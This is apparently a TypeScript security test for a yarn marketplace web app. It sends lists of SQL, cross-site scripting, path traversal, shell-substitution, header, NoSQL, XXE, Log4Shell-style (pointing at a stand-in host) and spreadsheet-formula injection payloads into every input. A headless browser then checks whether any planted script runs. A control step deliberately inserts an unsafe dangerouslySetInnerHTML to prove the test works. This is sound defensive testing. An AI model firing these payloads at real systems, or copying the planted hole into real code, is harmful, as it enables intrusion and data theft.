import { chromium, type Page } from '@playwright/test'
import { DEMO_PASSWORD, emailOf, quotationBody, YARN, yarnBody } from '../../../demo'
import { type Client, must, type Reply } from '../../client'
import { cookieOf, deal, requestBody, sellerIdOf } from '../../fixtures'
import { type Trial, tally } from '../../trial'
import type { World } from '../../world'
import { writableRoutes } from '../../writable-routes'

/** Each payload calls this function with its number when it runs. The browser reports the call. */
const ALARM = 'trustAlarm'
const DELAY_MS = 1000

const SQL = [
  "' OR '1'='1",
  "'; select pg_sleep(5); --",
  '1; select pg_sleep(5)',
  "' || pg_sleep(5) || '",
  '" OR ""="',
  "') OR 1=1 --",
  "' UNION SELECT password_hash FROM users --",
  '$$; drop table listings; $$',
  "\\'; select 1; --",
  '%27%20OR%201=1',
  '1 AND (select 1 from pg_sleep(5))',
  "{'a':1}'::jsonb",
  '$1',
  '%',
  '_',
  '%_%\\',
]

const MARKUP = [
  `<script>${ALARM}(1)</script>`,
  `"><img src=x onerror=${ALARM}(2)>`,
  `'><svg/onload=${ALARM}(3)>`,
  `<iframe srcdoc="<script>parent.${ALARM}(4)</script>">`,
  `javascript:${ALARM}(5)`,
  `</script><script>${ALARM}(6)</script>`,
  `<a href="javascript:${ALARM}(7)">x</a>`,
  `{{constructor.constructor('${ALARM}(8)')()}}`,
  `\${${ALARM}(9)}`,
  `<style>@import 'javascript:${ALARM}(10)'</style>`,
  `<!--<img src="--><img src=x onerror=${ALARM}(11)//">`,
  `\u2028${ALARM}(12)\u2029`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${ALARM}(13)>`,
  `]]><script>${ALARM}(14)</script>`,
  `<base href="https://prices-for-you.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${ALARM}(15)">`,
]

const OTHER = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '; id',
  '$(id)',
  '`id`',
  '| cat /etc/passwd',
  '\r\nset-cookie: planted=1',
  '\r\n\r\n<script>1</script>',
  '{"$ne":null}',
  '{"$where":"sleep(5000)"}',
  '__proto__',
  `\${jndi:ldap://prices-for-you.example/a}`,
  '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>',
  '#{7*7}',
  '=cmd|/c calc!A1',
  '*)(uid=*',
]

const PAYLOADS = [...SQL, ...MARKUP, ...OTHER]

/** Sends SQL, markup and shell code in every text input, then opens every page that shows it. */
export const injection: Trial = {
  name: 'injection',
  // Some bodies count as failed sign-ins.
  environment: { SIGN_IN_FAILURES_MAX: '1000000' },
  control: {
    sources: [
      {
        // Writes the title as markup. The browser reports the script even where the content policy blocks it.
        file: 'components/listing-view/listing-view.tsx',
        from: "{record.title || record.productName || 'Untitled listing'}",
        to: '<span dangerouslySetInnerHTML={{ __html: record.title }} />',
      },
    ],
    fault: /ran|Content Security Policy/,
  },
  async run(world, scale) {
    const statuses: number[] = []
    const faults: string[] = []
    let slowest = 0
    const send: Send = async (place, request) => {
      const startedAt = performance.now()
      const reply = await request()
      const ms = performance.now() - startedAt
      slowest = Math.max(slowest, ms)
      statuses.push(reply.status)
      if (reply.status >= 500) faults.push(`${place}: ${reply.status} ${reply.text.slice(0, 200)}`)
      if (ms > DELAY_MS && /sleep/.test(place)) faults.push(`${place} took ${Math.round(ms)} ms`)
      if (/root:x:0|argon2id\$/.test(reply.text)) faults.push(`${place} returned a secret`)
      if (reply.headers.getSetCookie().some((cookie) => cookie.startsWith('planted')))
        faults.push(`${place} set a cookie`)
      return reply
    }
    const every = scale < 0.5 ? 4 : 1
    await sendInFields(world, send, every)
    await sendInPaths(world, send)
    await sendInFileNames(world, send, faults)
    const pages = await pagesWithMarkup(world)
    const ran = await openPages(world, pages, faults)
    const figures = {
      payloads: PAYLOADS.length,
      requests: statuses.length,
      statuses: tally(statuses),
      pages: pages.length,
      'scripts run': ran,
      'ms at most': Math.round(slowest),
    }
    return { figures, faults }
  },
}

type Send = (place: string, request: () => Promise<Reply>) => Promise<Reply>

/** Every text field of every body. At a small scale each field gets every nth payload, shifted by one per field. */
async function sendInFields(world: World, send: Send, every: number): Promise<void> {
  for (const route of await writableRoutes(world)) {
    if (route.send) continue
    let write = await route.prepare()
    const fields = Object.entries(write.body).filter(([, value]) => typeof value === 'string' || Array.isArray(value))
    for (const [nth, [field, value]] of fields.entries()) {
      for (const [n, payload] of PAYLOADS.entries()) {
        if ((n + nth) % every !== 0) continue
        const body = { ...write.body, [field]: Array.isArray(value) ? [payload] : payload }
        const reply = await send(`${route.name}, ${field}: ${payload}`, () => route.client.post(write.path, body))
        if (reply.status < 300 && !route.isRepeatable) write = await route.prepare()
      }
    }
  }
}

const PARAMETERS = [
  'q',
  'fiberType',
  'yarnFamily',
  'country',
  'sellerId',
  'sort',
  'cursor',
  'limit',
  'countSystem',
  'priceMin',
  'condition',
]

async function sendInPaths(world: World, send: Send): Promise<void> {
  const buyer = await world.as('buyer')
  const paths = [
    ...PARAMETERS.map((name) => (payload: string) => `${YARN}?${name}=${payload}`),
    ...['q', 'fiberType', 'sort'].map((name) => (payload: string) => `/listings/yarn?${name}=${payload}`),
    (payload: string) => `/api/rfq/mine?cursor=${payload}`,
    (payload: string) => `/api/notifications?cursor=${payload}`,
    (payload: string) => `/api/rfq/${payload}`,
    (payload: string) => `${YARN}/${payload}`,
    (payload: string) => `/listings/${payload}`,
    (payload: string) => `/sign-in?next=${payload}`,
  ]
  for (const pathWith of paths) {
    for (const payload of PAYLOADS) {
      const path = pathWith(encodeURIComponent(payload))
      await send(path, () => buyer.get(path))
    }
  }
}

async function sendInFileNames(world: World, send: Send, faults: string[]): Promise<void> {
  const seller = await world.as('growth')
  const created = must(await seller.post(YARN, yarnBody({ status: 'DRAFT' })), 201).json<Made>()
  for (const payload of PAYLOADS) {
    const form = new FormData()
    form.set('role', 'technicalSheet')
    form.set('file', new Blob(['count,30s\n']), `${payload}.txt`)
    const path = `${YARN}/${created.listing.listingId}/attachments`
    const reply = await send(`a file named ${payload}`, () => seller.post(path, form))
    if (reply.status !== 201) continue
    const { attachment } = reply.json<{ attachment: { url: string } }>()
    const shown = await send(`the file named ${payload}`, () => seller.get(attachment.url))
    if (!/^attachment/.test(shown.headers.get('content-disposition') ?? ''))
      faults.push(`the file named ${payload} is not sent as a download`)
  }
}

interface Made {
  listing: { listingId: string; sellerId: string }
}

/** Creates records whose texts are markup. @returns the pages that show them */
async function pagesWithMarkup(world: World): Promise<{ account: 'buyer' | 'growth'; path: string }[]> {
  const [seller, buyer] = [await world.as('growth'), await world.as('buyer')]
  const all = MARKUP.join(' ')
  const texts = {
    productName: all.slice(0, 200),
    sellerSku: MARKUP[1],
    description: all,
    brand: MARKUP[2],
    dispatchCity: MARKUP[0],
  }
  const listing = await markupListing(seller, texts)
  const sellerId = await sellerIdOf(seller)
  const request = {
    ...requestBody(sellerId),
    note: all.slice(0, 900),
    deliveryLocation: MARKUP[1],
    priceBasis: MARKUP[2],
  }
  const { rfqId } = must(await buyer.post('/api/rfq/create', request), 201).json<{ rfq: { rfqId: string } }>().rfq
  const quotation = { ...quotationBody(rfqId), note: all.slice(0, 900) }
  const { quoteId } = must(await seller.post('/api/rfq/respond', quotation), 201).json<{ quote: { quoteId: string } }>()
    .quote
  const accepted = { rfqId, quoteId, quoteVersion: 1, poReference: MARKUP[1], note: MARKUP[0] }
  const { orderId } = must(await buyer.post('/api/rfq/accept', accepted), 201).json<{ order: { orderId: string } }>()
    .order
  await deal(buyer, seller)
  const q = encodeURIComponent(MARKUP[1] ?? '')
  return [
    ...[
      `/listings/yarn?q=${q}`,
      `/listings/yarn/${listing}`,
      `/listings/yarn/compare?ids=${listing}`,
      `/sellers/${sellerId}`,
      `/sign-in?next=${encodeURIComponent(`javascript:${ALARM}(20)`)}`,
      `/rfq/${rfqId}`,
      `/rfq/${rfqId}/compare`,
      '/rfq',
      '/orders',
      `/orders/${orderId}`,
      '/inbox',
      '/dashboard',
    ].map((path) => ({ account: 'buyer' as const, path })),
    ...[
      `/sell/yarn/${listing}`,
      `/sell/yarn/${listing}/history`,
      '/sell/listings',
      `/rfq/${rfqId}`,
      '/inbox',
      `/orders/${orderId}`,
    ].map((path) => ({ account: 'growth' as const, path })),
  ]
}

/** Creates a listing with markup in every text field that accepts it. */
async function markupListing(seller: Client, texts: Record<string, unknown>): Promise<string> {
  const title = `${MARKUP[0]} ${MARKUP[1]} ${MARKUP[2]}`
  let fields: Record<string, unknown> = { ...texts }
  for (;;) {
    const reply = await seller.post(YARN, yarnBody({ title, ...fields }))
    if (reply.status === 201) return reply.json<Made>().listing.listingId
    const { issues = [] } = reply.json<{ issues?: { field: string; severity: string }[] }>()
    const refused = new Set(issues.filter(({ severity }) => severity === 'error').map(({ field }) => field))
    const kept = Object.fromEntries(Object.entries(fields).filter(([name]) => !refused.has(name)))
    if (Object.keys(kept).length === Object.keys(fields).length)
      throw new Error(`the listing was refused: ${reply.text.slice(0, 300)}`)
    fields = kept
  }
}

/** Opens the pages as both accounts. @returns how many planted scripts ran */
async function openPages(
  world: World,
  pages: readonly { account: 'buyer' | 'growth'; path: string }[],
  faults: string[],
): Promise<number> {
  let ran = 0
  const isRoot = process.getuid?.() === 0
  const browser = await chromium.launch({
    executablePath: process.env.CHROMIUM_PATH || '/usr/bin/chromium-headless-shell',
    args: ['--disable-background-networking', '--disable-dev-shm-usage', ...(isRoot ? ['--no-sandbox'] : [])],
  })
  try {
    for (const account of ['buyer', 'growth'] as const) {
      const context = await browser.newContext()
      const cookie = await cookieOf(world.url, { email: emailOf(account), password: DEMO_PASSWORD })
      await context.addCookies(
        cookie.split('; ').map((pair) => ({
          name: pair.split('=', 1)[0] ?? '',
          value: pair.slice(pair.indexOf('=') + 1),
          url: world.url,
        })),
      )
      const page = await context.newPage()
      let path = ''
      const alarm = (what: string) => {
        ran += 1
        faults.push(`${path} as ${account}: ${what}`)
      }
      await page.exposeFunction(ALARM, (number: unknown) => alarm(`script ${String(number)} ran`))
      page.on('dialog', (dialog) => {
        alarm(`a dialog ran: ${dialog.message()}`)
        void dialog.dismiss()
      })
      page.on('console', (message) => {
        // The policy blocked it, but it should never have been in the page.
        if (/Content Security Policy/.test(message.text()))
          faults.push(`${path} as ${account}: ${message.text().slice(0, 200)}`)
      })
      page.on('request', (request) => {
        const { host } = new URL(request.url())
        if (host && host !== new URL(world.url).host) alarm(`a script that ran sent a request to ${host}`)
      })
      for (const place of pages.filter((each) => each.account === account)) {
        path = place.path
        await visit(page, new URL(path, world.url).href)
      }
      await context.close()
    }
  } finally {
    await browser.close()
  }
  return ran
}

/** Opens the page and every collapsed part, and clicks every javascript: link. */
async function visit(page: Page, address: string): Promise<void> {
  await page.goto(address, { waitUntil: 'load' })
  await page.evaluate(() => {
    for (const details of document.querySelectorAll('details')) details.open = true
    for (const link of document.querySelectorAll<HTMLAnchorElement>('a[href^="javascript:" i]')) link.click()
  })
}
